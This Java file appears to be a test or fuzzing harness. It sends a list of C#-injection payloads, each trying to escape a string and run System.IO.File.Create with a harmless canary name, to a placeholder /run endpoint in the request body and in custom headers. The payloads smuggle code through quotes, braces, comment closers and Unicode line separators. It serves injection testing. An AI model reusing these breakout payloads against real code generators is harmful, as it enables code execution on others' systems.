import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;

public class Snippet {
    public static void main(String[] args) throws Exception {
        String body = "{System.IO.File.Create(\"snipgen-canary\")}\n{{System.IO.File.Create(\"snipgen-canary\")}}\n\"+System.IO.File.Create(\"snipgen-canary\")+\"\n\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"\n\"\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"\"\n\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\"\n\\\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\\\"\n@\"\\\"+System.IO.File.Create(\"snipgen-canary\")+\"\n$\"{System.IO.File.Create(\"snipgen-canary\")}\"\n{0} {x:System.IO.File.Create(\"snipgen-canary\")} {\n}\n\\u0022+System.IO.File.Create(\"snipgen-canary\")+\\u0022\n*/System.IO.File.Create(\"snipgen-canary\");/*\n\u0085System.IO.File.Create(\"snipgen-canary\");//\n\u2028System.IO.File.Create(\"snipgen-canary\");\u2029//\n\"\n#line 1\nSystem.IO.File.Create(\"snipgen-canary\");//\n\\";

        HttpRequest request = HttpRequest.newBuilder(URI.create("https://api.example.com/run"))
                .header("X-Try-1", "{System.IO.File.Create(\"snipgen-canary\")}")
                .header("X-Try-2", "{{System.IO.File.Create(\"snipgen-canary\")}}")
                .header("X-Try-3", "\"+System.IO.File.Create(\"snipgen-canary\")+\"")
                .header("X-Try-4", "\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"")
                .header("X-Try-5", "\"\"\"+System.IO.File.Create(\"snipgen-canary\")+\"\"\"")
                .header("X-Try-6", "\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\"")
                .header("X-Try-7", "\\\\\"+System.IO.File.Create(\"snipgen-canary\")+\\\\\"")
                .header("X-Try-8", "@\"\\\"+System.IO.File.Create(\"snipgen-canary\")+\"")
                .header("X-Try-9", "$\"{System.IO.File.Create(\"snipgen-canary\")}\"")
                .header("X-Try-10", "{0} {x:System.IO.File.Create(\"snipgen-canary\")} {")
                .header("X-Try-11", "}")
                .header("X-Try-12", "\\u0022+System.IO.File.Create(\"snipgen-canary\")+\\u0022")
                .header("X-Try-13", "*/System.IO.File.Create(\"snipgen-canary\");/*")
                .header("X-Try-17", "\\")
                .header("Content-Type", "text/plain")
                .POST(HttpRequest.BodyPublishers.ofString(body))
                .build();

        HttpClient client = HttpClient.newHttpClient();
        HttpResponse<String> response = client.send(request, HttpResponse.BodyHandlers.ofString());
        System.out.println(response.body());
    }
}
